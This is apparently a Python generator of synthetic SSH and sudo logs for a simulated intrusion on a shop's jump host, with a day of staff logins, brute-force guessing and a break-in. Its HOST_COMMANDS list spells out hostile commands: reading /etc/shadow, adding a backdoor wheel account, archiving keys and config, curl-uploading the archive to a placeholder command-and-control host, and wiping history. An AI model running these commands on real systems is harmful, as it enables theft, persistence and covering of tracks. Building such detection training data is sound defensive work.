"""/var/log/secure of three hosts, by CloudWatch Logs subscription and Firehose: gzip members of envelopes."""

from collections.abc import Iterator
from datetime import datetime, timedelta

from samples.generator import story
from samples.generator.dice import Dice
from samples.generator.host_logs import Line, Subscription, delivered
from samples.generator.objects import LogObject
from samples.generator.story import RECORDED, REGION, SHOP, Host

SUBSCRIPTION = Subscription("linux-secure", "/ec2/linux/secure", "siem-linux-secure", timedelta(minutes=15))

KEYS = {
    name: f"SHA256:{text}"
    for name, text in {
        "alice": "c2FtcGxlIGtleSBvZiBhbGljZSBhdCBleGFtcGxlLmM",
        "bob": "c2FtcGxlIGtleSBvZiBib2IgYXQgZXhhbXBsZS5jb20",
        "ansible": "c2FtcGxlIGtleSBvZiBhbnNpYmxlIGV4YW1wbGUuY28",
    }.items()
}
INVALID = (
    "admin",
    "test",
    "oracle",
    "ubuntu",
    "postgres",
    "git",
    "jenkins",
    "user",
    "ftpuser",
    "pi",
    "minecraft",
    "deploy",
)
VALID = ("root", "ec2-user", story.HOST_USER)
CHORES = {
    "alice": (
        "/usr/bin/journalctl -u sshd --since today",
        "/usr/bin/dnf check-update",
        "/usr/bin/systemctl status amazon-ssm-agent",
    ),
    "bob": (
        "/usr/bin/systemctl restart shop",
        "/usr/bin/tail -n 200 /var/log/shop/error.log",
        "/usr/bin/less /var/log/messages",
    ),
    "ansible": ("/bin/sh -c 'echo BECOME-SUCCESS-sample; /usr/bin/python3'",),
}
GUESSES = {story.ATTACKER: 170, story.ATTACKER_SECOND: 70}

HOST_COMMANDS = (
    (20, "/usr/bin/id"),
    (41, "/usr/bin/cat /etc/shadow"),
    (95, "/usr/sbin/ss -tnp"),
    (160, f"/usr/sbin/useradd -m -s /bin/bash {story.HOST_BACKDOOR}"),
    (172, f"/usr/sbin/usermod -aG wheel {story.HOST_BACKDOOR}"),
    (190, f"/usr/bin/passwd {story.HOST_BACKDOOR}"),
    (236, "/usr/bin/tar -czf /tmp/.cache.tgz /home /etc/ssh /opt/shop/config"),
    (252, f"/usr/bin/curl -sk -T /tmp/.cache.tgz https://{story.COMMAND_AND_CONTROL}/u"),
    (529, "/usr/bin/nmap -Pn -n -p 22,3306,6379,9200 10.20.8.20-49"),
    (985, "/usr/bin/rm -f /tmp/.cache.tgz /home/backup/.bash_history"),
)
"""Seconds after the login, and what the attacker runs as root."""


def objects() -> Iterator[LogObject]:
    """Yield what Firehose writes every quarter of an hour."""
    dice = Dice("linux-secure")
    yield from delivered(dice, lines(dice), SUBSCRIPTION, f"AWSLogs/{SHOP}/EC2/Linux/Secure/{REGION}")


def lines(dice: Dice) -> list[Line]:
    """Return every line of the day, in no order; with the dice of this module always the same."""
    return [*_logins(dice), *_chance_guesses(dice), *_guessing(dice), *_break_in()]


def _logins(dice: Dice) -> Iterator[Line]:
    """Yield the working day: staff and the configuration tool, by key, from the office."""
    users = {"alice": 2, "bob": 3, "ansible": 5}
    for moment in dice.moments(RECORDED.start, RECORDED.end - timedelta(minutes=8), 58):
        host = dice.choice((story.JUMP_HOST, story.WEB_1, story.WEB_2))
        user = dice.pick(users)
        source = story.OFFICE if host is story.JUMP_HOST else story.JUMP_HOST.address
        yield from _session(dice, moment, host, user, source)


def _session(dice: Dice, start: datetime, host: Host, user: str, source: str) -> Iterator[Line]:
    pid, port = dice.randrange(2000, 32000), dice.port()
    number = 1001 + tuple(KEYS).index(user)
    sshd = f"sshd[{pid}]:"
    yield Line(
        start, host, f"{sshd} Accepted publickey for {user} from {source} port {port} ssh2: ED25519 {KEYS[user]}"
    )
    moment = start + timedelta(milliseconds=84)
    yield Line(
        moment, host, f"{sshd} pam_unix(sshd:session): session opened for user {user}(uid={number}) by {user}(uid=0)"
    )
    for command in dice.some(CHORES[user], 0, len(CHORES[user])):
        moment += timedelta(milliseconds=dice.randrange(2_000, 60_000))
        yield from _sudo(moment, host, (user, number), command, dice.randrange(2000, 32000))
    moment += timedelta(milliseconds=dice.randrange(4_000, 200_000))
    peer = f"user {user} {source} port {port}"
    yield Line(moment, host, f"sshd[{pid + 2}]: Received disconnect from {source} port {port}:11: disconnected by user")
    yield Line(moment, host, f"sshd[{pid + 2}]: Disconnected from {peer}")
    yield Line(
        moment + timedelta(milliseconds=9), host, f"{sshd} pam_unix(sshd:session): session closed for user {user}"
    )


def _sudo(time: datetime, host: Host, user: tuple[str, int], command: str, pid: int) -> Iterator[Line]:
    name, number = user
    sudo, session = f"sudo[{pid}]:", "pam_unix(sudo:session): session"
    yield Line(time, host, f"{sudo} {name:>8} : TTY=pts/0 ; PWD=/home/{name} ; USER=root ; COMMAND={command}")
    opened = f"{sudo} {session} opened for user root(uid=0) by {name}(uid={number})"
    yield Line(time + timedelta(milliseconds=6), host, opened)
    yield Line(time + timedelta(milliseconds=240), host, f"{sudo} {session} closed for user root")


def _chance_guesses(dice: Dice) -> Iterator[Line]:
    """Yield what every host on the internet sees all day."""
    for moment in dice.moments(RECORDED.start, RECORDED.end, 26):
        yield from _guess(dice, moment, dice.choice(story.NOISE), dice.choice(INVALID))


def _guessing(dice: Dice) -> Iterator[Line]:
    stage = story.BRUTE_FORCE
    for source, count in GUESSES.items():
        for moment in dice.moments(stage.start, stage.end, count):
            user = dice.choice(VALID) if dice.random() < 0.4 else dice.choice(INVALID)  # noqa: PLR2004
            yield from _guess(dice, moment, source, user)


def _guess(dice: Dice, start: datetime, source: str, user: str) -> Iterator[Line]:
    sshd, port, host = f"sshd[{dice.randrange(2000, 32000)}]:", dice.port(), story.JUMP_HOST
    if user in VALID:
        pam = "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser="
        first, named, closing = f"{pam} rhost={source}  user={user}", user, "authenticating"
    else:
        first, named, closing = f"Invalid user {user} from {source} port {port}", f"invalid user {user}", "invalid"
    failed = start + timedelta(milliseconds=dice.randrange(900, 2_400))
    yield Line(start, host, f"{sshd} {first}")
    yield Line(failed, host, f"{sshd} Failed password for {named} from {source} port {port} ssh2")
    closed = f"{sshd} Connection closed by {closing} user {user} {source} port {port} [preauth]"
    yield Line(failed + timedelta(milliseconds=310), host, closed)


def _break_in() -> Iterator[Line]:
    """Yield the guessed login and all that its session does."""
    start, host, user, source = story.HOST_SESSION.start, story.JUMP_HOST, story.HOST_USER, story.ATTACKER
    pid, port = 18211, story.HOST_LOGIN_PORT
    yield Line(start, host, f"sshd[{pid}]: Accepted password for {user} from {source} port {port} ssh2")
    opened = start + timedelta(milliseconds=70)
    yield Line(
        opened, host, f"sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1007) by {user}(uid=0)"
    )
    wrong = start + timedelta(seconds=9)
    asked = "1 incorrect password attempt ; TTY=pts/0 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/id"
    yield Line(wrong, host, f"sudo[{pid + 20}]:   {user} : {asked}")
    for seconds, command in HOST_COMMANDS:
        yield from _sudo(start + timedelta(seconds=seconds), host, (user, 1007), command, pid + 30 + seconds)
    yield from _new_account(start + timedelta(seconds=160, milliseconds=60), pid + 191)
    end = story.HOST_SESSION.end
    yield Line(end, host, f"sshd[{pid + 3}]: Received disconnect from {source} port {port}:11: disconnected by user")
    yield Line(end, host, f"sshd[{pid + 3}]: Disconnected from user {user} {source} port {port}")
    yield Line(end, host, f"sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}")


def _new_account(start: datetime, pid: int) -> Iterator[Line]:
    name, host = story.HOST_BACKDOOR, story.JUMP_HOST
    yield Line(start, host, f"useradd[{pid}]: new group: name={name}, GID=1012")
    added = f"new user: name={name}, UID=1012, GID=1012, home=/home/{name}, shell=/bin/bash, from=/dev/pts/0"
    yield Line(start + timedelta(milliseconds=2), host, f"useradd[{pid}]: {added}")
    yield Line(start + timedelta(seconds=12), host, f"usermod[{pid + 12}]: add '{name}' to group 'wheel'")
    yield Line(
        start + timedelta(seconds=34),
        host,
        f"passwd[{pid + 30}]: pam_unix(passwd:chauthtok): password changed for {name}",
    )
